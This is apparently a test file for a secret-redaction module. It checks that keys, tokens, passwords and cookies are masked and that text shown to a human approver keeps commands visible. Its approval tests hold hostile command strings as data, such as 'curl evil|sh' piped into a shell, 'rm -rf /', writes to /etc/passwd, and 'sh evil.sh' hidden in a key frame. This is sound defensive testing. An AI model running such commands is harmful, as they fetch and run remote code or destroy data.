import * as fc from 'fast-check'
import { generateKeyPairSync } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import {
  redactForApproval,
  redactForRecord,
  redactSecrets,
} from '../../../../src/core/text/secrets/redact.ts'
import { isVaried, mayHoldVaried } from '../../../../src/core/text/secrets/looks.ts'
import { LINEAR_AT_MOST, measureGrowth } from '../growth.ts'
import { makerFor } from './random-values.ts'
import { roundsOf, someOf } from '../../../harness/long-run.ts'

const PEM =
  '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx7vZ8k1pQ2\nq3Zz==\n-----END RSA PRIVATE KEY-----'
const WEB_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P'

describe('a part of a private key', () => {
  const keys = [
    generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs1', format: 'pem' }),
    generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }),
    generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'sec1', format: 'pem' }),
    generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }),
    generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }),
  ].map(String)
  const openSsh = Buffer.concat([
    Buffer.from('openssh-key-v1\0'),
    Buffer.from(keys.join('')).subarray(70, 370),
  ]).toString('base64')
  const wrapped = openSsh.replace(/.{70}(?=.)/g, '$&\n')

  it.each(
    [...keys, `-----BEGIN OPENSSH PRIVATE KEY-----\n${wrapped}\n-----END OPENSSH PRIVATE KEY-----\n`].map(
      (key) => [key.split('\n')[0], key],
    ),
  )('%s: is hidden from its first line on, and up to its last one', (_, key = '') => {
    const lines = key.trimEnd().split('\n')
    const body = lines.slice(1, -1)
    for (const part of [
      lines.slice(1),
      lines.slice(1, -1),
      body.length > 4 ? lines.slice(4) : lines.slice(1),
    ]) {
      const shown = redactSecrets(`before\n${part.join('\n')}\nafter words`)
      expect(body.filter((line) => shown.includes(line))).toEqual([])
      expect(shown).toMatch(/^before\n[^]*\nafter words$/)
    }
  })

  it('is hidden between its lines, as a range of them shows it', () => {
    const text = String(keys[0]).split('\n').slice(3, 7).join('\n')
    expect(redactSecrets(`${text}\n`)).toBe('[redacted]\n')
    expect(redactSecrets(`a\n  ${text.replaceAll('\n', '\r\n  ')}\r\nb`)).toBe('a\n  [redacted]\r\nb')
  })

  it.each([
    'The file begins with -----BEGIN CERTIFICATE----- as others do.\n',
    '-----BEGIN CERTIFICATE-----\nand so on\n',
    "const BEGIN = '-----BEGIN PUBLIC KEY-----'\nconst other = 1\n",
  ])('is hidden below %j, which is not its own first line', (above) => {
    const text = String(keys[0]).split('\n').slice(3, 7).join('\n')
    expect(redactSecrets(`${above}${text}\n`)).toBe(`${above}[redacted]\n`)
  })

  it('control: what has its own first line stays, with headers and in a list of blocks', () => {
    const body = String(keys[0]).split('\n').slice(3, 7).join('\n')
    for (const named of [
      `-----BEGIN PGP MESSAGE-----\nVersion: GnuPG v2\nComment: a b c\n\n${body}\n=aB3d\n-----END PGP MESSAGE-----\n`,
      `  -----BEGIN CERTIFICATE-----\r\n  ${body.replaceAll('\n', '\r\n  ')}\r\n  -----END CERTIFICATE-----\r\n`,
      `-----BEGIN CERTIFICATE-----\n${body}\nshort==\n${body}`,
    ])
      expect(redactSecrets(named + named)).toBe(named + named)
  })

  it('control: hashes, and the lines of a certificate that is named, stay', () => {
    const hashes = [...'abc'].map((one) => one.repeat(64)).join('\n')
    const body = String(keys[0]).split('\n').slice(3, 7).join('\n')
    const named = `-----BEGIN CERTIFICATE-----\n${body}\n-----END CERTIFICATE-----\n`
    expect(redactSecrets(hashes + named)).toBe(hashes + named)
  })

  it('control: a certificate and a public key stay', () => {
    const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    for (const type of ['spki', 'pkcs1'] as const) {
      const text = String(publicKey.export({ type, format: 'pem' }))
        .split('\n')
        .slice(1, -2)
        .join('\n')
      expect(redactSecrets(text)).toBe(text)
    }
    const certificate = 'MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ'
    expect(redactSecrets(certificate)).toBe(certificate)
  })

  it('a question still shows a path between its lines', () => {
    const [, head = '', next = ''] = (keys[0] ?? '').split('\n')
    const shown = redactForApproval(`${head}\nscripts/clean/everything\n${next}`)
    expect(shown).toContain('scripts/clean/everything')
    expect(shown).not.toContain(head)
  })
})

describe('names that sound secret', () => {
  it.each([
    ['API_KEY=abc123', 'API_KEY=[redacted]'],
    ['export AWS_SECRET_ACCESS_KEY="a1b2c3d4"', 'export AWS_SECRET_ACCESS_KEY="[redacted]"'],
    ['GITHUB_TOKEN: 9f8Xk2', 'GITHUB_TOKEN: [redacted]'],
    ['DB_PASSWORD=p4&s;w<d', 'DB_PASSWORD=[redacted]'],
    ['DB_PASSWORD=x!y#z%', 'DB_PASSWORD=[redacted]'],
    ["client_secret = '8sR2qqT0z'", "client_secret = '[redacted]'"],
    ['{"apiKey": "s3cr3t9", "model": "big"}', '{"apiKey": "[redacted]", "model": "big"}'],
    ['"{\\"token\\": \\"9f8Xk2b\\", \\"n\\": 1}"', '"{\\"token\\": \\"[redacted]\\", \\"n\\": 1}"'],
    ['login --password hunter2 --verbose', 'login --password [redacted] --verbose'],
    ['login --api-key=h4unt3r2 now', 'login --api-key=[redacted] now'],
    ['Authorization: Bearer 4bc.d3f7', 'Authorization: Bearer [redacted]'],
    ['authorization: Basic dXNlcjpwYXNz', 'authorization: Basic [redacted]'],
    ['curl -H "X-Api-Key: k9X2w71" -u bob:pw47kx x', 'curl -H "X-Api-Key: [redacted]" -u bob:[redacted] x'],
    ['Cookie: sid=9f8Xk2b7; theme=dark', 'Cookie: sid=[redacted]; theme=dark'],
    ['https://bob:p@ss@host.test/x?token=9f8Xk2b7', 'https://bob:[redacted]@host.test/x?token=[redacted]'],
    ["config['api_key'] = 'x7Yq20'", "config['api_key'] = '[redacted]'"],
    [":password => 'hunter22'", ":password => '[redacted]'"],
    ['cmd="MY_TOKEN=abc123 run"', 'cmd="MY_TOKEN=[redacted] run"'],
    ['password: "hunter22', 'password: "[redacted]'],
    ['f(password=x7Yq20)', 'f(password=[redacted])'],
    ['failed: password=hunter22 is wrong', 'failed: password=[redacted] is wrong'],
  ])('F-SAFE-REDACT: %s keeps its name and loses its value', (text, shown) => {
    expect(redactSecrets(text)).toBe(shown)
  })

  it.each([
    'token: string',
    'password = null',
    'password=$DB_PASSWORD and --token ${GH_TOKEN}',
    'primary_key: id',
    'public_key = "abc"',
    'max_tokens: 100',
    'monkey: banana',
    'const token => next(token)',
    'secret: {',
    'PWD=/home/ada',
    'the password is required',
    'https://host.test:8080/a@b',
    'skills: sk-loading-indicator',
    'author: Ada',
    'const nextToken = sourceCode.getTokenAfter(token)',
    'password: z.string().min(8),',
    'token: CancellationToken2,',
    'readonly token: SyntaxKind.ExtendsKeyword | undefined',
    'SyntaxKind[SyntaxKind["OpenBraceToken"] = 18] = "OpenBraceToken"',
    "credentials: 'same-origin'",
    'LAZY_FIELDS_KEY = Symbol("__lazy_fields__")',
    'api_key = os.environ["API_KEY_2"]',
    'secret: process.env.AUTH_SECRET_V2,',
    'private_key: ~/.ssh/id_ed25519',
    'token_path = "/var/run/secrets/token1"',
    "const KEY = 'aes-256-gcm'",
    'apiKey: "YOUR_API_KEY_1"',
    "password: 'Enter at least 8 characters'",
    "password: 'password1'",
    'password = other.password2',
    'amqp://guest:guest@localhost',
    'postgres://${user1}:${pass1}@${host}/db',
    'http://user:pass@example.com:8080/',
    'Authorization: Basic Authentication',
    'Authorization: Bearer <token1>',
    'cookie: Cookie',
    'docker run -u 1000:1000 image',
    'Cookie: theme=dark; lang=en',
    '"get-token": "node scripts/get-token.js"',
    'BARE_KEY = /^[a-z0-9-_]+$/i',
    'token = 1*<any CHAR except CTLs or separators>',
    '"integrity": "sha512-JLu7Fgx6gsnFXtKhQ5eLp3R6CVPlKLHfSxTA0mUBZwPX"',
    'gpg --recv-keys 5BE8A3F6C8A5C01D106C0AD820B1A390B168D356',
    'key: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
  ])('F-SAFE-REDACT: %s has no secret and stays', (text) => {
    expect(redactSecrets(text)).toBe(text)
  })
})

describe('values that look secret', () => {
  it.each([
    ['sk-ant-api03-abcDEF123_456-xyz'],
    ['sk-proj-1234567890abcdef'],
    ['ghp_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['gho_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['ghs_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['github_pat_11ABCDEFG0abcdefghij_klmnop'],
    ['glpat-abcdefghij1234567890'],
    ['xoxb-123456789012-abcdefABCDEF'],
    ['AKIAIOSFODNN7EXAMPLE'],
    ['AIzaSyA1234567890abcdefghijklmnopqrstuv'],
    ['npm_abcdefghijklmnopqrstuvwxyz0123456789'],
    [WEB_TOKEN],
  ])('F-SAFE-REDACT: %s goes wherever it stands', (secret) => {
    expect(redactSecrets(`got ${secret}, thanks`)).toBe('got [redacted], thanks')
    expect(redactSecrets(`x="${secret}"`)).toBe('x="[redacted]"')
  })

  it('F-SAFE-REDACT: a private key goes, its frame stays', () => {
    const frame = '-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----'
    expect(redactSecrets(`a\n${PEM}\nb\n${PEM}`)).toBe(`a\n${frame}\nb\n${frame}`)
    expect(redactSecrets(JSON.stringify(PEM))).toBe(`"${frame}"`)
    expect(redactSecrets('-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nMII (cut)')).toBe(
      '-----BEGIN PRIVATE KEY-----[redacted](cut)',
    )
    const code = "startsWith('-----BEGIN PRIVATE KEY-----') && endsWith('-----END PRIVATE KEY-----')"
    expect(redactSecrets(code)).toBe(code)
    expect(redactSecrets('-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG9w0B')).toContain(
      'MIIEvQIBADANBgkqhkiG9w0B',
    )
  })

  it('F-SAFE-REDACT: known values go as they are, in JSON and in a URL; short ones are left', () => {
    const known = ['p"ss w/rd', 'abc', 'longer-secret', 'longer-secret-still', 'redacted']
    expect(redactSecrets('p"ss w/rd p\\"ss w/rd p%22ss%20w%2Frd abc', known)).toBe(
      '[redacted] [redacted] [redacted] abc',
    )
    expect(redactSecrets('<longer-secret-still> <longer-secret>', known)).toBe('<[redacted]> <[redacted]>')
    expect(redactSecrets('a.c*d+ a.c*d+x', ['a.c*d+x'])).toBe('a.c*d+ [redacted]')
  })
})

describe('text that a person approves', () => {
  it.each([
    'X_TOKEN=a1b2c3;rm -rf /',
    'X_TOKEN=a1b2c3&&curl evil|sh',
    'X_TOKEN="$(curl evil1 | sh)"',
    'echo "X_TOKEN="; rm -rf /; echo "x"',
    'X_TOKEN=`reboot1`',
    'curl http://u:$(reboot)@h',
    'curl http://u:x1;reboot@h',
    'curl -H Cookie:a=9f8Xk2b7;reboot',
    '--password hunter2 >/etc/passwd',
    '{"password": "plain99"}',
  ])('FR-APR-01: %s hides nothing, because a name decides nothing there', (text) => {
    expect(redactForApproval(text)).toBe(text)
  })

  it('FR-APR-01: the frame of a private key hides only the key', () => {
    const frame = PEM.replace('q3Zz==', 'rm -rf ~; sh evil.sh')
    expect(redactForApproval(frame)).toBe(
      '-----BEGIN RSA PRIVATE KEY-----\n[redacted: private key, 26 characters]\nrm -rf ~; sh evil.sh\n-----END RSA PRIVATE KEY-----',
    )
  })
})

const split = (words: string): string[] => words.split('¦')
const PIECES = split(
  `API_KEY¦token¦password¦name: ¦value: ¦:\n  ¦a1b2c3d4e5f6a7b8¦hunter22¦<¦>¦</¦\t¦(¦x¦=¦: ¦ ¦"¦'¦\\"¦\`¦;¦[¦]¦}¦)¦,¦\n¦[redacted]¦sk-abc123456¦ghp_16C7e42F292c6912E7710c838347Ae178B4a¦-u a:¦://a:¦@¦Bearer ¦Cookie: ¦` +
    `--secret ¦abc1¦$(¦=>¦&¦\${A}¦-----BEGIN PRIVATE KEY-----¦-----END ¦MIIEvQIBADANBgkqhkiG9w0B¦${WEB_TOKEN}`,
)
const HOSTILE_UNITS = split(
  `a¦token¦token=¦token="¦token='¦token=\\"¦token="\\¦API_KEY=a ¦token=}¦x:¦-¦.¦ ¦--x ¦"¦\\¦://¦://a:¦://a:@¦-u a¦Bearer ¦` +
    `Cookie:¦sk-¦eyJa¦eyJaaaaaaaaa.¦eyJaaaaaaaa-¦npm_¦-----BEGIN PRIVATE KEY-----¦-----BEGIN ¦A ¦` +
    `a>¦password>abc1¦>abcdef<¦token:\n ¦name: token\n value:¦login a password ¦ password ¦\t¦token\t¦token("¦"token", "¦mysql -¦mysql ¦-u a:b1¦` +
    `AKIA¦SG.aaaaaaaaaaaaaaaaa¦Maaaaaaaaaaaaaaaaaaaaaaaaa.¦0123456789abcdef¦123456789:AA¦--token a¦token=a,¦Cookie: a=b1;¦` +
    `-----BEGIN A PRIVATE KEY-----MIIEvQIBADANBgkqhkiG9w0B(¦-----BEGIN PRIVATE KEY-----(`,
)

describe('laws', () => {
  const pieces = fc.constantFrom(...PIECES)

  it.each([redactSecrets, redactForApproval, redactForRecord])(
    'F-SAFE-REDACT: a second pass of %o changes nothing',
    (redact) => {
      fc.assert(
        fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
          const once = redact(parts.join(''))
          expect(redact(once)).toBe(once)
        }),
        { numRuns: roundsOf(2000, 20_000) },
      )
    },
  )

  it('F-SAFE-REDACT: a value survives in no usual notation', () => {
    const name = fc.constantFrom('API_KEY', 'dbPassword', 'client_secret', 'GITHUB_TOKEN', 'private-key')
    const value = fc
      .tuple(fc.nat(), fc.boolean())
      .map(([seed, isHex]) => (isHex ? makerFor(seed).hex(32) : makerFor(seed).base62(40)))
    const write = fc.constantFrom(
      (n: string, v: string) => `${n}=${v}`,
      (n: string, v: string) => `export ${n}='${v}' && run`,
      (n: string, v: string) => JSON.stringify({ before: 1, [n]: v, after: 2 }),
      (n: string, v: string) => JSON.stringify(JSON.stringify({ [n]: v })),
      (n: string, v: string) => `${n}: ${v}\nnext: 1`,
      (n: string, v: string) => `run --${n} ${v} x`,
    )
    fc.assert(
      fc.property(name, value, write, (n, v, print) => {
        const shown = redactSecrets(print(n, v))
        expect(shown).not.toContain(v)
        expect(shown).toContain(n)
        expect(shown).toContain('[redacted]')
      }),
      // The same values in every run: one in a thousand spells words by chance.
      { numRuns: 2000, seed: 7 },
    )
  })
})

describe('hostile text', () => {
  it.each(someOf(HOSTILE_UNITS, 15))('F-SAFE-REDACT: time grows no faster than a run of %j', (unit) => {
    expect(measureGrowth((text) => redactSecrets(`${text}!`), unit)).toBeLessThan(LINEAR_AT_MOST)
    expect(measureGrowth((text) => redactForApproval(`${text}!`), unit)).toBeLessThan(LINEAR_AT_MOST)
  })

  it('F-SAFE-REDACT: survives long lines without an end', () => {
    for (const unit of ['password="', 'a', '"', '\\', 'token=\\"x']) {
      expect(redactSecrets(`secret="${unit.repeat(roundsOf(100_000, 400_000))}`).length).toBeGreaterThan(0)
    }
  })
})

it('F-SAFE-REDACT: the folder that a shell was in before is not a password', () => {
  const env = 'PWD=/tmp/a1b2c3d4/x\nOLDPWD=/home/q8w7e6r5t4y3u2i1/p0o9i8u7\nPGPWD=q8w7e6r5t4y3'
  expect(redactSecrets(env)).toBe(
    'PWD=/tmp/a1b2c3d4/x\nOLDPWD=/home/q8w7e6r5t4y3u2i1/p0o9i8u7\nPGPWD=[redacted]',
  )
})

describe('text that is seen to hold nothing at a glance', () => {
  it('F-SAFE-REDACT: holds nothing on a closer look either', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        'gho_',
        'ghs_',
        'github_pat_',
        'glpat-',
        'xoxb-',
        'AKIA',
        'ASIA',
        'AIza',
        'npm_',
        'hf_',
        'sk_live_',
        'rk_test_',
        'sk-',
        'Bearer ',
        'eyJ',
        '://',
        'a:b@',
        '-u ',
        '--user=',
        '--proxy-user ',
        'Cookie: ',
        'set-cookie:',
        'x=',
        ': ',
        '"',
        "'",
        '\n',
        '-----BEGIN RSA PRIVATE KEY-----',
        '-----END ',
        'passwd',
        'passphrase',
        'credentials',
        'authorization',
        'db_pass',
        'DB_PWD',
        'x.auth',
        'idToken',
        'apiSecret',
        'accesskey',
        'MY_KEY',
        '.',
        '0123456789abcdef',
        'ABCDEFGHIJKLMNOPQRST',
      ),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('')
        // A word on a line of its own makes the closer look happen.
        if (redactSecrets(text) === text) expect(redactSecrets(`${text}\nkey`)).toBe(`${text}\nkey`)
      }),
      { numRuns: roundsOf(2000, 20_000) },
    )
  })

  it('is looked for in every text that can contain a value which is varied enough', () => {
    const part = fc.oneof(fc.stringMatching(/^[A-Z]{1,9}$/), fc.stringMatching(/^[\w-]{1,9}$/), fc.string())
    const text = fc.array(part, { maxLength: 5 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(text, text, text, (before, value, after) => {
        if (isVaried(value)) expect(mayHoldVaried(before + value + after)).toBe(true)
      }),
      { numRuns: roundsOf(2000, 20_000) },
    )
  })

  it('is found by the values that are known now, whichever were known before', () => {
    const value = fc.constantFrom('plain-one', 'plain-two', 'plain"three', 'short', '')
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.array(value), fc.array(value)), { minLength: 1 }), (turns) => {
        for (const [known, texts] of turns) {
          const text = texts.join(' / ')
          const hidden = new Set(known.filter((one) => one.length > 5))
          expect(redactSecrets(text, known)).toBe(
            texts.map((one) => (hidden.has(one) ? '[redacted]' : one)).join(' / '),
          )
        }
      }),
      { numRuns: roundsOf(300, 3000) },
    )
  })
})
